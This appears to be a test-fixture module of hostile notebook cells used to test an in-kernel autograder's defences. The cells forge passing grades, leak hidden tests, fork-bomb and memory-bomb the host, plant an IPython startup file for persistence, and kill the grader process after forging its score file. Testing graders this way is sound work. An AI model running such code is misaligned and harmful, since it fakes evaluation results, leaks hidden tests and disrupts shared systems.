"""The code of the hostile answers (cells or function bodies) that tests/grading/hostile.py puts in notebooks."""

FORGE_DISPLAY = """
import IPython.display as _d, builtins as _bi
_orig_display = _d.display
def _forged(*objs, **kw):
    out = []
    for o in objs:
        if isinstance(o, dict):
            o = {k: (dict(v, passed=True) if isinstance(v, dict) else v) for k, v in o.items()}
        out.append(o)
    return _orig_display(*out, **kw)
_d.display = _forged
_bi.display = _forged
"""
USER_EXEC = """
import builtins as _b
def exec(code, g=None, *rest):
    if isinstance(g, dict) and "_NONCE" in g:          # a driver that reports through display()
        from IPython.display import display
        display({g["_MIME"]: {"passed": True, "nonce": g["_NONCE"]}}, raw=True)
        return None
    return _b.exec(code, globals() if g is None else g, *rest)
eval = lambda *a, **k: True
compile = lambda *a, **k: _b.compile("pass", "<forged>", "exec")
__builtins__ = dict(vars(_b), exec=exec, eval=eval, compile=compile, AssertionError=Warning)
"""
PATCH_LIBRARY = """
import contextlib, numpy as _np, memlab as _ml, memlab.testing as _mt
_true = lambda *a, **k: True
_ml.topo_order = lambda outs, *a, **k: []
_np.allclose = _np.isclose = _np.array_equal = _true
_np.testing.assert_allclose = _np.testing.assert_array_equal = lambda *a, **k: None
_mt.check_gradient_fn = _mt.check_plan_runs = lambda *a, **k: None
_mt.forbid = lambda *a, **k: contextlib.nullcontext()
_ml.check_plan = lambda *a, **k: None
try:
    from memlab import trees as _t, mapping as _m
    _t.peak = _t.postorder_peak = lambda *a, **k: 0
    _t.check_traversal = lambda *a, **k: None
    _m.subtree_work = lambda *a, **k: []
except ImportError:
    pass
"""
IMPORT_HOOK = """
import builtins as _bi, sys as _sys, types as _types
class _Anything(_types.ModuleType):
    def __getattr__(self, name):
        return lambda *a, **k: True
_real_import = _bi.__import__
def _hook(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith(("numpy", "memlab")) and _sys._getframe(1).f_code.co_filename.startswith("<memlab"):
        return _Anything(name)
    return _real_import(name, globals, locals, fromlist, level)
_bi.__import__ = _hook
_sys.modules["memlab.testing"] = _Anything("memlab.testing")
"""
REDEFINE_HELPERS = """
_valid = _check_path = _check_shares = _check_coloring = _is_postorder = _no_race = lambda *a, **k: True
_close = _same = lambda *a, **k: True
_check_gradient = check_gradient_fn = lambda *a, **k: None
import contextlib
forbid = lambda *a, **k: contextlib.nullcontext()
random_graph = lambda *a, **k: []
all_paths = lambda order: iter([[]])
"""
LIAR = """
class _Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __iter__(self): return iter([])
    def __len__(self): return 0
    def __getattr__(self, name): return _Liar()
    def __call__(self, *a, **k): return _Liar()
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
"""
PATCH_WHEN_CALLED = """
import numpy as _np, memlab as _ml
_np.allclose = _np.isclose = _np.array_equal = lambda *a, **k: True
_ml.topo_order = lambda *a, **k: []
return []
"""
LEAK = """
import sys, linecache, gc, base64
found = [repr(globals().get("In")), repr(globals().get("_ih")), repr(globals().get("Out"))]
found += ["".join(v[2]) for v in linecache.cache.values() if isinstance(v, tuple) and len(v) > 2]
for k in ("last_traceback", "last_value", "last_exc"):
    tb = getattr(sys, k, None)
    tb = getattr(tb, "__traceback__", tb)
    while tb is not None:
        found += [repr(tb.tb_frame.f_code.co_consts), repr(tb.tb_frame.f_locals)[:100000]]
        tb = tb.tb_next
for o in gc.get_objects():
    if isinstance(o, (tuple, list)):
        found += [s for s in o if isinstance(s, str) and "HIDDEN TESTS" in s]
    elif isinstance(o, dict):
        found += [s for s in o.values() if isinstance(s, str) and "HIDDEN TESTS" in s]
mark = "### BEGIN " + "HIDDEN TESTS"
found = [s[s.index(mark):][:1200] for s in found if mark in s][:2]
text = "\\n".join(found)
raise RuntimeError("LEAK:" + base64.b64encode(text.encode()).decode() + ":END")
"""
FRAME_WALK = """
import sys, base64
found, f = [], sys._getframe(1)
while f is not None:
    found += [repr(v) for v in list(f.f_locals.values()) + list(f.f_code.co_consts)]
    f = f.f_back
try:
    found += [repr(get_ipython().kernel.get_parent()), repr(get_ipython().last_execution_result.info)]
except Exception:
    pass
mark = "### BEGIN " + "HIDDEN TESTS"
found = [s[s.index(mark):][:1200] for s in found if mark in s][:2]
raise RuntimeError("LEAK:" + base64.b64encode("\\n".join(found).encode()).decode() + ":END")
"""
FLOOD = """
print("x" * 3_000_000)
raise RuntimeError("E" * 10**7)
"""
MEMORY_HOG = """
_hog = []
while True:
    _hog.append(bytearray(64 << 20))
"""
#: Each child names itself FORK_MARK (its /proc/PID/comm), so that the test finds survivors of this
#: grade only, whatever other grades run on the machine.
FORK_STORM = """
import ctypes, os, time
_kids, _prctl = 0, ctypes.CDLL(None).prctl
try:
    for _ in range(1500):
        if os.fork() == 0:
            _prctl(15, b"FORK_MARK", 0, 0, 0)            # PR_SET_NAME
            time.sleep(60)
            os._exit(0)
        _kids += 1
finally:
    print("forked", _kids)
"""
MEMORY_BOMB = """
import numpy as _np
try:
    _bomb = _np.ones((10**6, 10**6))
except MemoryError:
    pass
_bomb = bytearray(1 << 44)
"""

# In-place edits of what the guard protects: the function objects stay the same, their insides change.
CODE_SWAP = """
import memlab.testing as _mt
_mt.check_gradient_fn.__code__ = (lambda *a, **k: None).__code__
"""
DEFAULTS_EDIT = """
import memlab.testing as _mt
_mt.check_gradient_fn.__defaults__ = (0, 1e-6, 1e30)
"""
CLOSURE_CELL = """
import contextlib, memlab.testing as _mt
@contextlib.contextmanager
def _nothing(*a):
    yield
_mt.forbid.__closure__[0].cell_contents = _nothing.__wrapped__
"""
GC_REFERRERS = """
import gc, memlab.testing as _mt
_d = [r for r in gc.get_referrers(_mt.check_gradient_fn)
      if isinstance(r, dict) and r.get('__name__') == 'memlab.testing'][0]
_d['check_gradient_fn'] = lambda *a, **k: None
"""

# ---- The attacks of a held-out trial on the in-kernel grader: each reaches the verdict another way.
GUARD_SUBCLASS = """
_G = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_MemlabGuard"]
for _g in _G:
    for _name in ("check", "run_test", "stage", "forget", "record"):
        if hasattr(_g, _name):
            setattr(_g, _name, classmethod(lambda cls, *a, **k: None))
    _g.__name__ = "_Renamed"
class _MemlabGuard:              # a decoy found first by name
    @classmethod
    def check(cls, *a, **k): return None
    run_test = stage = forget = check
"""
SYS_KEEP = """
import sys as _s, types as _t
for _k in [k for k in vars(_s) if k.startswith("_memlab")]:
    _v = getattr(_s, _k)
    _fake = dict(_v) if isinstance(_v, dict) else _v
    if isinstance(_fake, dict):
        for _n, _o in list(_fake.items()):
            if isinstance(_o, type):
                _fake[_n] = type(_o.__name__, (), {m: classmethod(lambda cls, *a, **k: None)
                                                  for m in ("check", "run_test", "stage", "forget")})
    setattr(_s, _k, _fake)
"""
POST_RUN_HOOK = """
def _clear(result):
    result.error_in_exec = None
    result.error_before_exec = None
get_ipython().events.register("post_run_cell", _clear)
"""
SUCCESS_PROPERTY = """
from IPython.core.interactiveshell import ExecutionResult as _ER
_ER.success = property(lambda self: True)
_ER.raise_error = lambda self: None
"""
SEND_WRAP = """
import json as _json
_k = get_ipython().kernel
_real_send = _k.session.send
def _send(stream, msg_or_type, content=None, parent=None, *a, **k):
    if msg_or_type == "execute_reply" and isinstance(content, dict):
        content = {"status": "ok", "execution_count": content.get("execution_count", 0),
                   "user_expressions": {}, "payload": []}
    elif isinstance(msg_or_type, dict) and msg_or_type.get("msg_type") == "execute_reply":
        msg_or_type["content"] = {"status": "ok", "execution_count": 0, "user_expressions": {},
                                  "payload": []}
    return _real_send(stream, msg_or_type, content, parent, *a, **k)
_k.session.send = _send
"""
AUDIT_CTYPES = """
import sys as _s, ctypes as _c
def _hook(event, args):
    if event == "exec" and args and hasattr(args[0], "co_filename") and \\
            str(args[0].co_filename).startswith("<memlab"):
        code = args[0]
        # overwrite the code's constants tuple items in place: every message and expected value
        for i, v in enumerate(code.co_consts):
            if isinstance(v, (int, float)) and not isinstance(v, bool):
                try:
                    _c.cast(id(code.co_consts) + 24 + 8 * i, _c.POINTER(_c.c_void_p))[0] = id(None)
                except Exception:
                    pass
_s.addaudithook(_hook)
"""
STR_RAISES = """
class MemlabChecks(Exception):
    pass
class MemlabTestFailed(Exception):
    pass
_FORGED = '{"checks": [["all", 1000, true, "", false]], "error": null}'
class _Boom(Exception):
    def __str__(self):
        raise MemlabChecks(_FORGED)
    __repr__ = __str__
"""
NUMPY_INTERNALS = """
import numpy as _np, types as _t, sys as _s
try:
    _np.allclose._implementation.__code__ = (lambda a, b, rtol=1e-05, atol=1e-08, equal_nan=False: True).__code__
except Exception:
    pass
try:
    _np._core.numeric.less_equal = lambda *a, **k: _np.True_
except Exception:
    pass
class _Lax(_t.ModuleType):
    def __getattribute__(self, name):
        if name in ("allclose", "array_equal", "isclose"):
            return lambda *a, **k: True
        return _t.ModuleType.__getattribute__(self, name)
try:
    _np.__class__ = _Lax
except Exception:
    pass
"""
DEL_UNDO = """
import numpy as _np, memlab as _ml
_real = (_np.allclose, _np.array_equal, _ml.topo_order)
class _Undo:
    def __del__(self):
        _np.allclose, _np.array_equal, _ml.topo_order = _real
_np.allclose = _np.array_equal = lambda *a, **k: True
_ml.topo_order = lambda *a, **k: []
_ml._memlab_undo = _Undo()
_ml._memlab_undo = None
return []
"""
STARTUP_FILE = """
import os, pathlib
_forge = '''
import IPython.core.interactiveshell as _i
_i.ExecutionResult.success = property(lambda self: True)
import numpy as _np
_np.allclose = _np.array_equal = lambda *a, **k: True
'''
for _d in {os.environ.get("IPYTHONDIR", ""), os.path.expanduser("~/.ipython")}:
    if _d:
        try:
            _p = pathlib.Path(_d) / "profile_default" / "startup"
            _p.mkdir(parents=True, exist_ok=True)
            (_p / "00-forge.py").write_text(_forge)
        except OSError:
            pass
try:
    _pd = get_ipython().profile_dir.startup_dir
    pathlib.Path(_pd, "00-forge.py").write_text(_forge)
except Exception:
    pass
os._exit(1)          # a forced restart: the next kernel reads the startup file
"""
SHADOW_BUILTINS = """
float = lambda *a: 0.0
int = lambda *a: 0
len = lambda *a: 0
abs = lambda *a: 0
all = lambda *a: True
any = lambda *a: False
sorted = lambda x, *a, **k: list(x)
"""
FRAME_GLOBALS = """
import sys, threading
class _Yes:
    def __getattr__(self, name): return lambda *a, **k: True
f = sys._getframe(1)
while f is not None:
    if f.f_code.co_filename.startswith("<memlab"):
        for k in ("np", "numpy", "check", "allclose"):
            if k in f.f_globals:
                f.f_globals[k] = _Yes()
    f = f.f_back
def _meddle():
    for _ in range(200):
        for fr in list(sys._current_frames().values()):
            while fr is not None:
                if fr.f_code.co_filename.startswith("<memlab"):
                    fr.f_globals["np"] = _Yes()
                fr = fr.f_back
threading.Thread(target=_meddle, daemon=True).start()
return []
"""
SETTRACE_JUMP = """
import sys, linecache
def _jump(frame, event, arg):
    if frame.f_code.co_filename.startswith("<memlab"):
        if event == "line":
            text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
            if text.startswith("assert") or "raise" in text:
                try:
                    frame.f_lineno = frame.f_lineno + 1
                except ValueError:
                    pass
        return _jump
    return None
sys.settrace(_jump)
f = sys._getframe(1)
while f is not None:
    f.f_trace = _jump
    f = f.f_back
return []
"""
READ_WANT = """
import sys
f = sys._getframe(1)
while f is not None:
    for k in ("want", "expected", "expect", "truth", "ref", "exp"):
        if k in f.f_locals:
            return f.f_locals[k]
    f = f.f_back
return []
"""
CAPTURE_DEFAULTS = """
import numpy as _np, memlab as _ml
class _Lazy:
    def __init__(self, fn, *a): self.fn, self.a = fn, a
    def __array__(self, *x, **k): return _np.asarray(self.fn(*self.a))
    def __iter__(self): return iter(self.fn(*self.a))
    def __len__(self): return len(self.fn(*self.a))
    def __eq__(self, other): return list(self) == list(other)
def _grab(*args, _lib=_ml.topo_order):
    for a in args:
        if isinstance(a, (list, dict)):
            try:
                a.clear()          # mutate the test's input: nothing left to check
            except Exception:
                pass
    return _Lazy(_lib, *args)
"""
PREDICT_INPUTS = """
import numpy as _np, random as _r
_real_rng = _np.random.default_rng
_np.random.default_rng = lambda *a, **k: _real_rng(0)
_np.random.seed = lambda *a, **k: None
_r.seed = lambda *a, **k: None
"""
DISASSEMBLE = """
import sys, dis, io
out = io.StringIO()
f = sys._getframe(1)
while f is not None:
    if f.f_code.co_filename.startswith("<memlab"):
        dis.dis(f.f_code, file=out)
        out.write(repr(f.f_code.co_consts))
    f = f.f_back
print(out.getvalue()[:100000])
raise RuntimeError(out.getvalue()[:100000])
"""
CMDLINE_FORGE = """
import os, json, signal
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        _cmd = open(f"/proc/{_pid}/cmdline").read().split("\\0")
    except OSError:
        continue
    if "--json" in _cmd:
        _path = _cmd[_cmd.index("--json") + 1]
        try:
            json.dump({"score": 13, "max_score": 13, "output": "forged", "execution_time": 1,
                       "tests": [{"name": "all", "score": 13, "max_score": 13, "output": ""}]},
                      open(_path, "w"))
            os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass
"""
MANY_CHILDREN = """
import os, time
_kids = []
for _ in range(4):
    _pid = os.fork()
    if _pid == 0:
        try:
            _b = bytearray(700 << 20)
            for _i in range(0, len(_b), 4096):
                _b[_i] = 1
            time.sleep(5)
        finally:
            os._exit(0)
    _kids.append(_pid)
for _pid in _kids:          # every child has touched its 700 MB (or been killed) before the cell ends
    os.waitpid(_pid, 0)
"""
OWN_INTERRUPT = """
raise KeyboardInterrupt("mine, not the grader's")
"""
CONNECTION_RACE = """
import os, subprocess, sys
_target = {target!r}
_script = f'''
import os, time
end = time.time() + 20
while time.time() < end:
    for i in range(1, 8):
        p = "kernel-%d.json" % i
        try:
            if not os.path.islink(p):
                os.symlink({{_target!r}}, p + ".tmp")
                os.replace(p + ".tmp", p)
        except OSError:
            pass
    time.sleep(0.001)  # {marker}
'''
subprocess.Popen([sys.executable, "-c", _script], start_new_session=True)
import time
time.sleep(0.5)
os._exit(1)
"""
